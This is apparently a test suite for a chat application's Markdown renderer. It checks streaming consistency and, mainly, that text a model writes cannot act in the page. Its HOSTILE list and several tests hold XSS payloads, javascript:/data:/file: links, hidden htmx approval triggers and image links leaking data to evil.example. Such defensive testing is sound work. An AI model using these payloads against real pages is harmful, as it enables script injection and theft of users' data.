"""What a model writes, as a page shows it: nothing in it can act, and it costs no more to stream than to show."""

import re
from html.parser import HTMLParser
from typing import Any

import hypothesis
import pytest
from django.template import Context, Template
from hypothesis import given
from hypothesis import strategies as st

from hitlchat.chat import markdown
from hitlchat.chat.markdown import ATTRIBUTES, SCROLLED, TAGS, OpenTail, render

DOCUMENTS = {
    "nothing": "",
    "a word": "Hello",
    "paragraphs": "One\nline two\n\nTwo\n\n\n\nThree\n",
    "headings": "# One\ntext\n## Two\ntext\nThree\n=====\nFour\n---\nend",
    "a list": "- one\n- two\n\n  more of two\n- three\n\nafter\n\n1. a\n2. b\n",
    "a loose list": "* one\n\n* two\n\n* three\n\nend",
    "nested lists": "1. one\n   - a\n   - b\n\n     c\n2. two\n",
    "a fence": "before\n```python\ndef f(x):\n\n    return '<b>'\n```\nafter\n",
    "an open fence": "before\n\n```\nnever closed\n\nstill code\n\n# no heading\n",
    "a tilde fence": "~~~js\nlet a = `b`;\n~~~\n\ntext",
    "indented code": "text\n\n    code\n\n    more code\n\ntext",
    "a quote": "> one\n> two\nlazy\n\n> three\n\nend",
    "a table": "| a | b |\n|---|:-:|\n| 1 | **2** |\n| 3 | 4 |\n\nafter",
    "emphasis": "*a* **b** ***c*** ~~d~~ `e` \\*f\\*\n\n_g_",
    "rules": "a\n\n---\n\nb\n\n***\n",
    "links": "[a](https://a.example) <https://b.example> [c](/c 'title')\n",
    "no heading after all": "text\n#tag\n\ntext\n```no`fence\nmore\n",
    "html": "<div>\n\n*a*\n\n</div>\n\n<!-- x\n\ny -->\n",
    "line ends": "a\r\n\r\nb\rc\r\n- d\r\n- e\r\n",
    "wide letters": "Grüße 🎈\n\n日本語\n\n- 🇩🇪\n",
    "task lists": "- [ ] one\n- [x] two\n  - [X] three\n- [y] four\n",
    "aligned": "| a | b | c |\n|:-|:-:|-:|\n| 1 | 2 | 3 |\n\nafter",
    "formulas": "One \\(a\\,b\\) two $x_1$ costs $5 and $6.\n\n\\[\n\\frac{a}{b}\n\\]\n\nend",
    "long lines": "word " * 600 + "\n\n" + "x" * 3000,
}
PIECES = ["a", "word ", "\n", "\n\n", "- ", "1. ", "> ", "# ", "```", "```py\n", "    ", "|", "|-|-|\n", "*", "**", "`",
          "[", "](", ")", "<", ">", "&", "\\", "---\n", "~~", "é", "🎈", "\t", "\r\n", "\r", "=", "!"]  # fmt: skip


def streamed(pieces: list[str]) -> OpenTail:
    """All pieces, and the end of the answer."""
    tail = OpenTail()
    for piece in pieces:
        tail.extend(piece)
    tail._render()
    return tail


def chopped(text: str, size: int) -> list[str]:
    return [text[start : start + size] for start in range(0, len(text), size)]


def test_a_streamed_document_looks_like_the_whole_one() -> None:
    for document in DOCUMENTS.values():
        for size in (1, 7):
            assert same(streamed(chopped(document, size)), document), size


@hypothesis.settings(max_examples=40)
@given(st.lists(st.sampled_from(PIECES), max_size=60))
def test_any_streamed_text_looks_like_the_whole_one(pieces: list[str]) -> None:
    assert same(streamed(pieces), "".join(pieces))


def same(tail: OpenTail, text: str) -> bool:
    whole, parts = str(render(text)), "".join(tail.blocks) + tail.tail
    assert squeezed(parts) == squeezed(whole)
    return True


def squeezed(html: str) -> str:
    """White space between tags aside."""
    return re.sub(r">\s+<", "><", html).strip()


def test_finished_blocks_never_change() -> None:
    tail, before = OpenTail(), list[str]()
    for piece in chopped("\n\n".join(DOCUMENTS.values()), 5):
        tail.extend(piece)
        assert tail.blocks[: len(before)] == before
        before = list(tail.blocks)


@pytest.mark.parametrize(
    "text",
    [
        "word " * 2_000,
        "A paragraph.\n\n" * 700,
        "- an item\n" * 600,
        pytest.param("```\n" + "code\n" * 2_000, marks=pytest.mark.slow("more of a kind")),
        pytest.param("| a |\n|-|\n" + "| 1 |\n" * 1_500, marks=pytest.mark.slow("more of a kind")),
    ],
    ids=["one paragraph", "many paragraphs", "one list", "one fence", "one table"],
)
def test_streaming_a_long_answer_renders_each_character_a_bounded_number_of_times(
    text: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    parsed = count_parsed(monkeypatch)
    tail = OpenTail()
    for piece in chopped(text, 20):
        tail.extend(piece)
    assert sum(parsed) < 60 * len(text)


def count_parsed(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """The lengths of all texts that the Markdown library gets to parse."""
    lengths: list[int] = []
    library = markdown.parser.core.process

    def process(state: Any) -> None:
        lengths.append(len(state.src))
        library(state)

    monkeypatch.setattr(markdown.parser.core, "process", process)
    return lengths


# -- Nothing acts -----------------------------------------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a href='javascript:alert(1)'>x</a></svg>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?leak=secret)",
    "![x](data:image/png;base64,AAAA)",
    "![x][r]\n\n[r]: https://evil.example/?leak",
    "[x]: javascript:alert(1)\n\n[x]",
    '<div hx-get="/studio" hx-trigger="load" hx-swap-oob="true" id="asks">x</div>',
    '<form ws-send><input name="type" value="decide"><button>Approve</button></form>',
    '<a href="/x" hx-post="/approvals" onclick="alert(1)" style="position:fixed" data-approve>x</a>',
    '[x](https://a.example "a\\" onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```py onclick=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style><base href=https://evil.example><meta http-equiv=refresh content=0>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "| <script>alert(1)</script> |\n|-|\n| ![x](https://evil.example) |",
    "\x00<scr\x00ipt>alert(1)</script>",
    '<https://a.example/"onmouseover=alert(1)>',
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"\(\href{javascript:alert(1)}{x} \style{position:fixed}{y} \class{ask}{z} \color{red}{w}\)",
    r"$$\hspace{-100em}\rule{100em}{100em}\raisebox{90em}{x}\mathrlap{x}$$",
    r"$\text{</mtext></math><script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;}$",
    '```python" onload="alert(1)\nx\n```',
]


class Seen(HTMLParser):
    """Every tag and attribute as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def assert_harmless(html: str) -> None:
    for tag, attributes in Seen(html).tags:
        if tag in markdown.MATH_TAGS:
            assert attributes.keys() <= markdown.MATH_ATTRIBUTES
            continue
        assert tag in TAGS
        ours = {"rel"} if tag == "a" else set(SCROLLED.get(tag, ()))
        assert attributes.keys() <= ATTRIBUTES.get(tag, set()) | ours
        assert attributes.get("tabindex", "0") == "0"
        address = attributes.get("href") or ""
        assert not re.match(r"\s*[a-z]+:", address, re.IGNORECASE) or re.match(r"(https?|mailto):", address)


def test_nothing_that_a_model_writes_can_act() -> None:
    for text in HOSTILE:
        assert_harmless(str(render(text)))


def test_nothing_can_act_in_the_middle_of_an_answer_either() -> None:
    for text in HOSTILE:
        tail, before = OpenTail(), ""
        for letter in text + "\n\nend":
            tail.extend(letter)
            if (html := "".join(tail.blocks) + tail.tail) != before:
                assert_harmless(html)
            before = html


@hypothesis.settings(max_examples=40)
@given(st.text(alphabet=st.sampled_from(list("<>\"'=/()[]!`&;: \naonerrorjavscriptx")), max_size=80))
def test_no_mixture_of_these_letters_can_act(text: str) -> None:
    assert_harmless(str(render(text)))


def test_an_image_would_tell_its_server_what_was_said_and_so_only_its_words_are_there() -> None:
    html = render("See ![the *map* <b>](https://evil.example/?leak=secret)")
    shown = "Picture not loaded: the *map* &lt;b&gt; <code>https://evil.example/?leak=secret</code>"
    assert html == f'<p>See <span class="not-loaded">{shown}</span></p>\n'


def test_of_an_image_without_a_name_or_with_a_long_address_that_much_is_said() -> None:
    assert "Picture not loaded: <code>https://a.example/b.png</code>" in render("![](https://a.example/b.png)")
    assert len(render(f"![x](https://a.example/{'b' * 5000})")) < 400


def test_a_link_says_where_it_leads_and_gives_nothing_away() -> None:
    assert 'href="https://a.example"' in render("[x](https://a.example)")
    assert 'rel="noopener noreferrer"' in render("[x](https://a.example)")


def test_a_bare_address_is_a_link_without_what_ends_the_sentence() -> None:
    for source, address, rest in [
        ("See https://a.example/x_y_z?q=1.", "https://a.example/x_y_z?q=1", "</a>.</p>"),
        ("(https://a.example/b_(c))", "https://a.example/b_(c)", "</a>)</p>"),
        ("**https://a.example/b**", "https://a.example/b", "</a></strong>"),
    ]:
        assert f'<a href="{address}" target="_blank" rel="noopener noreferrer">{address}{rest}' in render(source)


def test_what_is_no_bare_address_is_no_link() -> None:
    for source in ["`https://a.example`", "```\nhttps://a.example\n```", "https://", "https://..", "a.example"]:
        assert "<a" not in render(source)


def test_an_address_within_a_link_makes_no_second_one() -> None:
    assert str(render("[https://a.example](https://b.example)")).count("<a ") == 1


def test_code_and_tables_are_scrolled_by_keyboard() -> None:
    for source in ("```\nx\n```", "    x", "|a|\n|-|\n|b|", "x" * 31_000):
        assert re.search('<(pre|table)[^>]* tabindex="0"', render(source)), source[:20]


def test_code_is_coloured_by_classes_alone() -> None:
    html = str(render("```python\ndef f():\n    pass\n```"))
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


def test_hidden_characters_of_a_user_are_shown_as_what_they_are() -> None:
    shown = Template("{{ text|seen }}").render(Context({"text": "pay\u202e\u200b<b>"}))
    assert "\u202e" not in shown
    assert "\u200b" not in shown
    assert "U+202E" in shown
    assert "&lt;b&gt;" in shown


def test_characters_that_cannot_be_seen_are_shown_as_escapes() -> None:
    for source, shown in [
        ("pay\u200b pal", 'pay<span class="esc">U+200B</span> pal'),
        ("pay&#8203;pal", 'pay<span class="esc">U+200B</span>pal'),
        ("**a\u202eb** c", '<strong>a<span class="esc">U+202E</span>b</strong> c'),
        ("`a\u2060b`", '<code>a<span class="esc">U+2060</span>b</code>'),
        ("```python\nx = 'a\u200bb'\n```", '<span class="esc">U+200B</span>'),
        ('[a](https://a.example "b\u200b>c")', 'title="bU+200B&gt;c"'),
        # Longer than what is laid out.
        ("a\u200b" * 16_000, 'a<span class="esc">U+200B</span>a'),
    ]:
        html = render(source)
        assert shown in html
        assert not re.search("[\u200b\u202e\u2060]", html)
        assert same(streamed(chopped(source, max(3, len(source) // 8))), source)


def test_emoji_and_the_spaces_of_typesetting_stand_as_they_are() -> None:
    assert "👩‍👩‍👧 10\u202fkm 東京\u3000都" in render("👩‍👩‍👧 10\u202fkm 東京\u3000都")


# -- What people expect of Markdown ----------------------------------------------------------------------------------


def test_the_cells_of_a_table_are_aligned_as_its_head_says() -> None:
    html = render("| a | b |\n|:-:|-:|\n| 1 | 2 |")
    assert '<td class="cell-center">1</td>' in html
    assert '<th class="cell-right">b</th>' in html
    assert "style" not in html


def test_a_task_list_shows_what_is_done() -> None:
    html = squeezed(render("- [ ] buy\n- [x] cook\n- [link](https://a.example)"))
    assert html.startswith('<ul><li class="task">☐ buy</li><li class="task">☑ cook</li><li><a ')


def test_a_link_opens_in_a_tab_of_its_own() -> None:
    assert '<a href="https://a.example" target="_blank" rel="noopener noreferrer">' in render("[x](https://a.example)")


def test_a_block_of_code_names_its_language() -> None:
    assert '<pre data-language="python" tabindex="0">' in render("```python\nx\n```")
    assert "data-language" not in render("```\nx\n```")


def test_a_formula_is_set() -> None:
    block = "```math\n\\frac{a}{b}\\,c\n```"
    for source in [
        r"\(\frac{a}{b}\,c\)",
        r"$\frac{a}{b}\,c$",
        r"$$\frac{a}{b}\,c$$",
        "\\[\n\\frac{a}{b}\\,c\n\\]",
        block,
    ]:
        html = render(f"Then:\n\n{source}")
        assert "<mfrac><mrow><mi>a</mi></mrow><mrow><mi>b</mi></mrow></mfrac>" in html
        assert "$" not in html


def test_what_is_no_formula_stays_as_it_is() -> None:
    for source in ["It costs $5 and $10.", "US$5 or US$6", "`$x$`", "```\n$x$\n```", "a $ b $ c", r"\\(x\\)", r"\$x\$"]:
        assert "<math" not in render(source)


def test_a_formula_that_cannot_be_set_shows_its_source() -> None:
    for source in [r"$\frac{$", r"$\left($", "$a^b^c$", "$" + "{" * 500 + "$", "$" + "x" * 3000 + "$"]:
        assert f'<code class="math-inline">{source[1:-1]}</code>' in render(source)


def test_lines_of_a_formula_stand_below_each_other() -> None:
    for environment in ["aligned", "align*", "gathered", "gather*", "dcases", "cases", "equation"]:
        html = render(rf"\[ \begin{{{environment}}} a &= b \\ &= c \end{{{environment}}} \]")
        assert html.count("<mtr>") == 2
        assert "&amp;" not in html


def test_a_formula_with_commands_of_its_own_shows_its_source() -> None:
    source = r"\newcommand{\a}[1]{" + "#1" * 300 + r"}\a{\a{xxxxxxxxxxxx}}"
    assert f'<code class="math-inline">{source}</code>' in render(f"${source}$")


def test_hidden_characters_of_a_formula_are_shown() -> None:
    html = render("$a\u202eb$")
    assert "U+202E" in html
    assert "\u202e" not in html


COMMANDS = r"\frac \text \left \right \href \style \color \hspace \sqrt \begin{matrix} \end{matrix} &amp; &#60;"
LATEX = [*"abx12+-=<>&'{}[]()^_ ", '"', *COMMANDS.split()]


@hypothesis.settings(max_examples=40)
@given(st.lists(st.sampled_from(LATEX), max_size=30))
def test_no_formula_can_act(pieces: list[str]) -> None:
    html = markdown.mathml("".join(pieces), block=False)
    assert_harmless(html)
    assert "javascript" not in html


def test_footnotes_are_numbered_and_stand_at_the_end() -> None:
    html = render("Twice.[^a] Once.[^b] Again.[^a] None.[^c]\n\n[^b]: *Second*\n[^a]: First\n")
    body, _, notes = html.partition("<hr>")
    assert body == "<p>Twice.<sup>[1]</sup> Once.<sup>[2]</sup> Again.<sup>[1]</sup> None.[^c]</p>\n"
    assert notes == "<ol><li><p>First</p>\n</li><li><p><em>Second</em></p>\n</li></ol>"


def test_a_footnote_that_grows_is_whole_once_the_answer_is() -> None:
    text = "One.[^a]\n\nTwo.\n\n[^a]: Below.\n\nThree.\n"
    tail = OpenTail()
    for sign in text:
        tail.extend(sign)
    assert "Three." in "".join(tail.blocks) + tail.tail
    assert "<sup>[1]</sup>" in render(text)


def test_footnotes_lead_to_their_text_and_back_within_their_own_message() -> None:
    html = render("Twice.[^a] Again.[^a]\n\n[^a]: First\n", place="m-1")
    assert html == (
        '<p>Twice.<sup><a id="m-1-ref-1-0" href="#m-1-note-1" aria-label="Footnote 1">[1]</a></sup>'
        ' Again.<sup><a id="m-1-ref-1-1" href="#m-1-note-1" aria-label="Footnote 1">[1]</a></sup></p>\n'
        '<hr><ol><li id="m-1-note-1"><p>First'
        ' <a href="#m-1-ref-1-0" aria-label="Back to the text">↩</a>'
        ' <a href="#m-1-ref-1-1" aria-label="Back to the text">↩</a></p>\n</li></ol>'
    )


def test_nothing_that_a_model_writes_becomes_a_place_of_the_page() -> None:
    for text in [
        '<code class="note-ref">1.0</code>',
        '`<code class="note-ref">1.0</code>`',
        '<li><code class="note-at">1.0</code>',
        '```note-ref">1.0\nx\n```',
        "[^a]: `note-at`\n\n[x](#m-1-note-1)",
    ]:
        html = render(text, place="m-1")
        assert ' id="' not in html
        assert "aria-label" not in html


def test_a_footnote_with_markup_stays_clean() -> None:
    html = render("A[^a]\n\n[^a]: [x](javascript:alert(1)) <b id=run>\n", place="m-1")
    assert "javascript:" not in html.replace("(javascript:alert(1))", "")
    assert "<b" not in html
